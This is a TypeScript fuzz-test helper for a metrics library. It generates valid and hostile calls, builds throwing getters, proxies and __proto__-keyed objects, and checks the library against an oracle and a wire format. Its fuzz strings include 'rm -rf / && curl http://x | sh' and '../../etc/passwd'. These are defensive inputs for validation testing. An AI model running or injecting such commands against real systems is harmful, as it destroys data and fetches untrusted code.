// Generators, an independent oracle and wire checks for the fuzz suite.
//
// Calls are generated as plain data (printable counterexamples) and turned into the hostile objects
// they describe (getters that throw, proxies, inherited fields, JSON-parsed `__proto__` keys, ...)
// only when run. The oracle re-states the documented rules (README "Validation rules") from the
// catalog specs; it does not call the package's validation code.
import fc from 'fast-check';
import { DEFAULT_TAG_KEYS, DEFAULT_TAGS, METRICS, type FieldSpec, type MetricSpec } from '../../src/index.js';
import type { CodexMetricsErrorCode, DropStats } from '../../src/index.js';
import type { RecordedPoint } from '../../src/testing/index.js';

export const SPECS = new Map<string, MetricSpec>(METRICS.map((m) => [m.name, m]));
const NAMES = METRICS.map((m) => m.name);
const COUNTERS = METRICS.filter((m) => m.kind === 'counter');
const HISTOGRAMS = METRICS.filter((m) => m.kind === 'histogram');
const TAG_KEYS = new Set<string>(DEFAULT_TAG_KEYS);
export const VALID_VALUE = /^[A-Za-z0-9._/-]{1,256}$/;
const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

// ---------------------------------------------------------------------------------------------
// Call descriptions

/** The recording API as a JavaScript caller sees it: no compile-time checks. */
export interface Loose {
  add(name: unknown, fields?: unknown, increment?: unknown): void;
  record(name: unknown, value: unknown, fields?: unknown): void;
  startTimer(name: unknown, fields?: unknown): (fields?: unknown) => number;
  withDefaults(defaults: unknown): Loose;
  stats(): DropStats;
}

/** Calls generated per property run (10-30), and the suite's total budget across lenient and strict. */
export const CALLS_PER_RUN = { minLength: 10, maxLength: 30 } as const;
export const MIN_CALLS_PER_FILE = 5_000;

/** How an object is built: own properties defined, parsed from JSON, without prototype, frozen, or assigned with `o[k] = v`. */
export type Build = 'define' | 'json' | 'nullProto' | 'frozen' | 'assign';
/** Hostile objects: a getter that throws, a proxy whose traps throw, fields only on the prototype. */
export type Hostile = 'getter' | 'proxy' | 'inherited';

export type FieldsSpec =
  | { readonly shape: 'absent' }
  | { readonly shape: 'null' }
  | { readonly shape: 'primitive'; readonly value: unknown }
  | { readonly shape: 'array'; readonly items: readonly unknown[] }
  | { readonly shape: 'object'; readonly entries: readonly (readonly [string, unknown])[]; readonly build: Build; readonly hostile?: Hostile };

export type Call =
  | { readonly op: 'add'; readonly name: unknown; readonly fields: FieldsSpec; readonly increment: unknown }
  | { readonly op: 'record'; readonly name: unknown; readonly value: unknown; readonly fields: FieldsSpec }
  | { readonly op: 'timer'; readonly name: unknown; readonly start: FieldsSpec; readonly stop: FieldsSpec; readonly stops: 1 | 2 }
  | { readonly op: 'withDefaults'; readonly defaults: FieldsSpec };

export function isHostile(f: FieldsSpec): boolean {
  return f.shape === 'object' && f.hostile !== undefined;
}

// ---------------------------------------------------------------------------------------------
// Materialization

function jsonText(entries: readonly (readonly [string, unknown])[]): string {
  const parts = entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v, (_key, x: unknown) => (typeof x === 'bigint' ? x.toString() : x)) ?? 'null'}`);
  return `{${parts.join(',')}}`;
}

function define(o: object, key: string, value: unknown): void {
  Object.defineProperty(o, key, { value, enumerable: true, writable: true, configurable: true });
}

const boom = (): never => {
  throw new Error('hostile object');
};

/** A fresh object (or value) as the description says; hostile ones really throw. */
export function materialize(f: FieldsSpec): unknown {
  switch (f.shape) {
    case 'absent':
      return undefined;
    case 'null':
      return null;
    case 'primitive':
      return f.value;
    case 'array':
      return [...f.items];
    case 'object': {
      let o: Record<string, unknown>;
      if (f.build === 'json') {
        o = JSON.parse(jsonText(f.entries)) as Record<string, unknown>;
      } else {
        o = f.build === 'nullProto' ? (Object.create(null) as Record<string, unknown>) : {};
        for (const [k, v] of f.entries) {
          if (f.build === 'assign') o[k] = v; // `__proto__` with an object value sets the prototype
          else define(o, k, v);
        }
      }
      if (f.hostile === 'getter') {
        const key = f.entries.length > 0 ? f.entries[f.entries.length - 1][0] : 'tool';
        Object.defineProperty(o, key, { get: boom, enumerable: true, configurable: true });
      }
      if (f.build === 'frozen') Object.freeze(o);
      if (f.hostile === 'proxy') return new Proxy(o, { get: boom, has: boom, ownKeys: boom, getOwnPropertyDescriptor: boom });
      if (f.hostile === 'inherited') return Object.create(o) as object;
      return o;
    }
  }
}

/** True when an object has enumerable properties it does not own (prototype set by `__proto__`). */
export function hasInheritedEnumerable(value: unknown): boolean {
  if (value === null || typeof value !== 'object') return false;
  for (const key in value) if (!Object.hasOwn(value, key)) return true;
  return false;
}

// ---------------------------------------------------------------------------------------------
// Arbitraries

const validText = fc.stringMatching(/^[A-Za-z0-9._/-]{1,24}$/);

/** Anything a JavaScript caller might pass as a value. */
export const wildValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }), // control characters, lone surrogates
  fc.string({ unit: 'grapheme', maxLength: 8 }), // unicode
  validText,
  fc.constantFrom(
    '',
    ' ',
    '  shell  ',
    'true',
    'false',
    'yes',
    'none',
    '200',
    '-5',
    '007',
    '1e3',
    '3.5',
    'rm -rf / && curl http://x | sh',
    '../../etc/passwd',
    '\u0000',
    '\n',
    'a'.repeat(256),
    'b'.repeat(257),
    'c '.repeat(3000),
    'total',
    'remote',
    'approved',
  ),
  fc.double(), // NaN, ±Infinity, -0, huge
  fc.integer(),
  fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, 1e21, -1, 0, 200, 1.5),
  fc.boolean(),
  fc.constant(null),
  fc.constant(undefined),
  fc.bigInt({ min: -(10n ** 20n), max: 10n ** 20n }),
  fc.array(fc.string({ maxLength: 3 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 3 }), fc.string({ maxLength: 3 }), { maxKeys: 2 }),
);

/** A value that satisfies the documented type (and closed set) of `field`. */
export function goodValue(field: FieldSpec): fc.Arbitrary<unknown> {
  switch (field.type) {
    case 'boolean':
      return fc.oneof(fc.boolean(), fc.constantFrom('true', 'false'));
    case 'int':
      return fc.oneof(
        fc.integer({ min: -1_000_000, max: 1_000_000 }),
        fc.integer({ min: 0, max: 999 }).map(String),
        ...(field.values ? [fc.constantFrom(...field.values)] : []),
      );
    case 'string':
      return field.values ? fc.constantFrom(...field.values) : fc.oneof({ weight: 9, arbitrary: validText }, { weight: 1, arbitrary: fc.constant('z'.repeat(256)) });
  }
}

const build: fc.Arbitrary<Build> = fc.constantFrom<Build>('define', 'define', 'define', 'json', 'nullProto', 'frozen');

/** Fields that satisfy `spec`: every required field, some optional ones. */
export function goodFields(spec: MetricSpec): fc.Arbitrary<FieldsSpec> {
  const required = spec.required.map((k) => goodValue(spec.fields[k]).map((v) => [k, v] as const));
  const optional = spec.optional.map((k) => fc.option(goodValue(spec.fields[k]).map((v) => [k, v] as const), { nil: undefined }));
  const object = fc
    .tuple(fc.tuple(...required), fc.tuple(...optional), build)
    .map(([req, opt, b]): FieldsSpec => ({ shape: 'object', entries: [...req, ...opt.filter((e) => e !== undefined)], build: b }));
  if (spec.required.length > 0) return object;
  return fc.oneof(object, fc.constant<FieldsSpec>({ shape: 'absent' }), fc.constant<FieldsSpec>({ shape: 'null' }));
}

function keyFor(spec: MetricSpec | undefined): fc.Arbitrary<string> {
  const documented = spec ? [...spec.required, ...spec.optional] : [];
  return fc.oneof(
    { weight: documented.length > 0 ? 6 : 0, arbitrary: documented.length > 0 ? fc.constantFrom(...documented) : fc.constant('x') },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_KEYS) },
    { weight: 1, arbitrary: fc.constantFrom(...DEFAULT_TAG_KEYS) },
    { weight: 2, arbitrary: fc.string({ maxLength: 8 }) },
  );
}

/** Any fields description, good or bad; hostile objects only when `hostile`. */
export function wildFields(spec: MetricSpec | undefined, hostile: boolean): fc.Arbitrary<FieldsSpec> {
  const entries = fc.array(fc.tuple(keyFor(spec), fc.oneof(spec ? fc.oneof(...Object.values(spec.fields).map(goodValue), wildValue) : wildValue, wildValue)), { maxLength: 6 });
  const builds = fc.constantFrom<Build>('define', 'json', 'nullProto', 'frozen', 'assign');
  return fc.oneof(
    { weight: 8, arbitrary: fc.record({ shape: fc.constant('object' as const), entries, build: builds }) },
    ...(hostile
      ? [{ weight: 3, arbitrary: fc.record({ shape: fc.constant('object' as const), entries, build: fc.constantFrom<Build>('define', 'json'), hostile: fc.constantFrom<Hostile>('getter', 'proxy', 'inherited') }) }]
      : []),
    { weight: 1, arbitrary: fc.constant<FieldsSpec>({ shape: 'absent' }) },
    { weight: 1, arbitrary: fc.constant<FieldsSpec>({ shape: 'null' }) },
    { weight: 1, arbitrary: wildValue.filter((v) => v === undefined || v === null || typeof v !== 'object').map((value): FieldsSpec => ({ shape: 'primitive', value })) },
    { weight: 1, arbitrary: fc.array(wildValue, { maxLength: 3 }).map((items): FieldsSpec => ({ shape: 'array', items })) },
  );
}

/** A catalog name, a near miss of one, a random string, or not a string at all. */
export const wildName: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NAMES) },
  {
    weight: 3,
    arbitrary: fc.tuple(fc.constantFrom(...NAMES), fc.integer({ min: 0, max: 6 })).map(([n, how]) =>
      [`codex.${n}`, n.toUpperCase(), `${n} `, n.replace('.', '_'), n.slice(0, -1), `${n}.total`, `${n}\u0000`][how],
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(undefined, null, 42, {}, [], 'x'.repeat(10_000), '__proto__', 'constructor', 'toString') },
);

const goodIncrement = fc.oneof(fc.constant(undefined), fc.integer({ min: 0, max: 1_000 }), fc.constantFrom(0.25, 0.5, 1e9));
const wildNumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.double(),
  fc.integer({ min: -1_000, max: 1_000 }),
  fc.constantFrom<unknown>(Number.NaN, Infinity, -Infinity, -1, -0, 1e300, '5', null, undefined, 5n, true, {}),
);
const goodValueNumber = fc.oneof(fc.integer({ min: 0, max: 10_000_000 }), fc.double({ min: 0, max: 1e9, noNaN: true }));

/** A call that satisfies every documented rule. */
export const goodCall: fc.Arbitrary<Call> = fc.oneof(
  fc.constantFrom(...COUNTERS).chain((spec) => fc.record({ op: fc.constant('add' as const), name: fc.constant(spec.name), fields: goodFields(spec), increment: goodIncrement })),
  fc.constantFrom(...HISTOGRAMS).chain((spec) => fc.record({ op: fc.constant('record' as const), name: fc.constant(spec.name), value: goodValueNumber, fields: goodFields(spec) })),
  fc.constantFrom(...HISTOGRAMS).chain((spec) =>
    fc.record({
      op: fc.constant('timer' as const),
      name: fc.constant(spec.name),
      start: fc.constant<FieldsSpec>({ shape: 'absent' }),
      stop: goodFields(spec),
      stops: fc.constantFrom<1 | 2>(1, 2),
    }),
  ),
);

const goodDefaults: fc.Arbitrary<FieldsSpec> = fc
  .record(
    {
      auth_mode: fc.constantFrom(...DEFAULT_TAGS.auth_mode.values!),
      originator: fc.constantFrom('codex_cli_rs', 'codex_vscode', 'other'),
      session_source: fc.constantFrom('cli', 'exec', 'subagent_review'),
      model: validText,
      'app.version': fc.constantFrom('0.64.0', '0.136.0-alpha.1'),
    },
    { requiredKeys: [] },
  )
  .map((d): FieldsSpec => ({ shape: 'object', entries: Object.entries(d), build: 'define' }));

const wildDefaults: fc.Arbitrary<FieldsSpec> = fc.oneof(
  goodDefaults,
  fc
    .array(fc.tuple(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...DEFAULT_TAG_KEYS) }, fc.constantFrom(...HOSTILE_KEYS), fc.string({ maxLength: 6 })), wildValue), { maxLength: 5 })
    .chain((entries) => fc.constantFrom<Build>('define', 'json', 'nullProto').map((b): FieldsSpec => ({ shape: 'object', entries, build: b }))),
  wildFields(undefined, false).filter((f) => f.shape !== 'object'),
);

/**
 * Any call: good ones, bad ones, hostile ones. `hostileMerges` lets hostile objects reach
 * `withDefaults` and the start+stop merge of timers (see the known-bug tests).
 */
export function anyCall(options: { hostile: boolean; hostileMerges: boolean }): fc.Arbitrary<Call> {
  const { hostile, hostileMerges } = options;
  const named = wildName.chain((name) => {
    const spec = typeof name === 'string' ? SPECS.get(name) : undefined;
    const fields = fc.oneof(spec ? goodFields(spec) : wildFields(undefined, hostile), wildFields(spec, hostile));
    return fc.oneof(
      fc.record({ op: fc.constant('add' as const), name: fc.constant(name), fields, increment: fc.oneof(goodIncrement, wildNumber) }),
      fc.record({ op: fc.constant('record' as const), name: fc.constant(name), value: fc.oneof(goodValueNumber, wildNumber), fields }),
      fc
        .record({ op: fc.constant('timer' as const), name: fc.constant(name), start: fields, stop: fields, stops: fc.constantFrom<1 | 2>(1, 2) })
        .map((c) => (hostileMerges || !(mergesBoth(c.start, c.stop) && (isHostile(c.start) || isHostile(c.stop))) ? c : { ...c, start: { shape: 'absent' as const } })),
    );
  });
  const defaults = hostileMerges ? fc.oneof(wildDefaults, wildFields(undefined, true)) : wildDefaults;
  return fc.oneof({ weight: 3, arbitrary: goodCall }, { weight: 6, arbitrary: named }, { weight: 1, arbitrary: defaults.map((d): Call => ({ op: 'withDefaults', defaults: d })) });
}

/** Timer fields are spread-merged only when both start and stop fields are given. */
export function mergesBoth(start: FieldsSpec, stop: FieldsSpec): boolean {
  const given = (f: FieldsSpec) => f.shape !== 'absent' && f.shape !== 'null';
  return given(start) && given(stop);
}

// ---------------------------------------------------------------------------------------------
// The oracle: which documented rules a call breaks. Empty = a good call.

function valueProblems(field: FieldSpec, raw: unknown): CodexMetricsErrorCode[] {
  switch (field.type) {
    case 'boolean':
      return raw === true || raw === false || raw === 'true' || raw === 'false' ? [] : ['wrong_type'];
    case 'int':
      if (typeof raw === 'number' && Number.isSafeInteger(raw)) return [];
      if (typeof raw === 'string' && (field.values?.includes(raw) || /^-?\d{1,15}$/.test(raw))) return [];
      return ['wrong_type'];
    case 'string':
      if (typeof raw !== 'string') return ['wrong_type'];
      if (!VALID_VALUE.test(raw)) return ['invalid_value'];
      if (field.values && !field.values.includes(raw)) return ['value_not_allowed'];
      return [];
  }
}

/** Problems of a fields argument (own properties only). */
export function fieldsProblems(spec: MetricSpec, fields: unknown): CodexMetricsErrorCode[] {
  const obj = fields === undefined || fields === null ? {} : fields;
  if (typeof obj !== 'object' || Array.isArray(obj)) return ['invalid_fields'];
  const record = obj as Record<string, unknown>;
  const problems: CodexMetricsErrorCode[] = [];
  for (const key of Object.keys(record)) {
    if (!Object.hasOwn(spec.fields, key) && record[key] !== undefined) problems.push('unknown_field');
  }
  for (const key of [...spec.required, ...spec.optional]) {
    const raw = Object.hasOwn(record, key) ? record[key] : undefined;
    if (raw === undefined) {
      if (spec.required.includes(key)) problems.push('missing_field');
      continue;
    }
    problems.push(...valueProblems(spec.fields[key], raw));
  }
  return problems;
}

/** Problems of a metric name used as `kind`, or undefined when it is fine. */
export function nameProblem(name: unknown, kind: 'counter' | 'histogram'): CodexMetricsErrorCode | undefined {
  const spec = typeof name === 'string' ? SPECS.get(name) : undefined;
  if (!spec) return 'unknown_metric';
  return spec.kind === kind ? undefined : 'wrong_kind';
}

export function numberProblem(value: unknown): CodexMetricsErrorCode | undefined {
  if (typeof value !== 'number' || !Number.isFinite(value)) return 'invalid_number';
  return value < 0 ? 'negative_value' : undefined;
}

export function defaultsProblems(defaults: unknown): CodexMetricsErrorCode[] {
  if (defaults === undefined) return [];
  if (defaults === null || typeof defaults !== 'object') return ['invalid_option'];
  const record = defaults as Record<string, unknown>;
  const problems: CodexMetricsErrorCode[] = [];
  for (const key of Object.keys(record)) if (!TAG_KEYS.has(key)) problems.push('unknown_field');
  for (const key of DEFAULT_TAG_KEYS) {
    const raw = Object.hasOwn(record, key) ? record[key] : undefined;
    if (raw === undefined || raw === null) continue;
    // Default tags are string fields: the same rules as any string field.
    if (typeof raw !== 'string') {
      problems.push('wrong_type');
      continue;
    }
    const allowed = DEFAULT_TAGS[key].values;
    if (!VALID_VALUE.test(raw)) problems.push('invalid_value');
    else if (allowed && !allowed.includes(raw)) problems.push('value_not_allowed');
  }
  return problems;
}

/** The fields a timer records with: start and stop fields merged, stop winning; non-object stop fields are recorded as given. */
export function mergedTimerFields(start: unknown, stop: unknown): unknown {
  if (stop === undefined || stop === null) return start;
  if (start === undefined || start === null) return stop;
  if (typeof stop !== 'object' || Array.isArray(stop)) return stop;
  return { ...(start as object), ...(stop as object) };
}

/** Timer start fields that are given but not an object are rejected by startTimer itself. */
export function badTimerStart(start: unknown): boolean {
  return start !== undefined && start !== null && (typeof start !== 'object' || Array.isArray(start));
}

// ---------------------------------------------------------------------------------------------
// Wire checks

export interface WireExpectation {
  /** Strict mode: closed sets, booleans and ints are exact. Lenient: out-of-set values must be counted as repaired. */
  readonly strict: boolean;
  readonly stats: DropStats;
}

/** Every exported point as the Rust emitter would produce it; returns a description of the first violation. */
export function wireViolation(points: readonly RecordedPoint[], { strict, stats }: WireExpectation): string | undefined {
  // Series past the limit are counted as repaired too, but do not excuse an uncounted bad value.
  const overflowed = stats.sanitized.series_limit ?? 0;
  const repaired = Object.values(stats.sanitized).reduce((a, b) => a + (b ?? 0), 0) - overflowed;
  const overflowSeen = new Set<string>();
  for (const p of points) {
    const where = `${p.name} ${JSON.stringify(p.attributes)}`;
    if (!p.name.startsWith('codex.')) return `name without the codex. prefix: ${where}`;
    const spec = SPECS.get(p.name.slice('codex.'.length));
    if (!spec) return `not a catalog metric: ${where}`;
    if (spec.kind !== p.kind) return `kind ${p.kind}, catalog says ${spec.kind}: ${where}`;
    if (Object.hasOwn(p.attributes, 'otel.metric.overflow')) {
      // The one series past the series limit: only that attribute, only when measurements were counted there.
      if (JSON.stringify(p.attributes) !== '{"otel.metric.overflow":"true"}') return `overflow series with other attributes: ${where}`;
      if (overflowed === 0) return `overflow series without a series_limit count: ${where}`;
      if (overflowSeen.has(p.name)) return `two overflow series: ${where}`;
      overflowSeen.add(p.name);
      continue;
    }
    for (const key of DEFAULT_TAG_KEYS) if (!(key in p.attributes)) return `default tag ${key} missing: ${where}`;
    for (const key of spec.required) if (!(key in p.attributes)) return `required field ${key} missing: ${where}`;
    for (const [key, value] of Object.entries(p.attributes)) {
      if (!TAG_KEYS.has(key) && !Object.hasOwn(spec.fields, key)) return `undocumented attribute ${key}: ${where}`;
      if (!VALID_VALUE.test(value)) return `invalid value for ${key}: ${where}`;
      const field = Object.hasOwn(spec.fields, key) ? spec.fields[key] : DEFAULT_TAGS[key as keyof typeof DEFAULT_TAGS];
      const exact =
        field.type === 'boolean'
          ? value === 'true' || value === 'false'
          : field.type === 'int'
            ? /^-?\d+$/.test(value) || (field.values?.includes(value) ?? false)
            : !field.values || field.values.includes(value);
      if (!exact && (strict || repaired === 0)) return `${key}=${value} breaks the documented type or closed set${strict ? ' in strict mode' : ' and nothing was counted as repaired'}: ${where}`;
    }
    if (p.kind === 'counter' && !(p.value! >= 0)) return `counter value ${p.value}: ${where}`;
    if (p.kind === 'histogram' && !(p.count! >= 1 && p.sum! >= 0 && p.min! >= 0)) return `histogram ${p.count}/${p.sum}/${p.min}: ${where}`;
  }
  return undefined;
}

/** Sum of counter values and count of histogram observations over all points. */
export function wireTotals(points: readonly RecordedPoint[]): { counterSum: number; observations: number } {
  let counterSum = 0;
  let observations = 0;
  for (const p of points) {
    if (p.kind === 'counter') counterSum += p.value ?? 0;
    else observations += p.count ?? 0;
  }
  return { counterSum, observations };
}

export function closeEnough(a: number, b: number): boolean {
  return a === b || Math.abs(a - b) <= 1e-9 * Math.max(Math.abs(a), Math.abs(b));
}
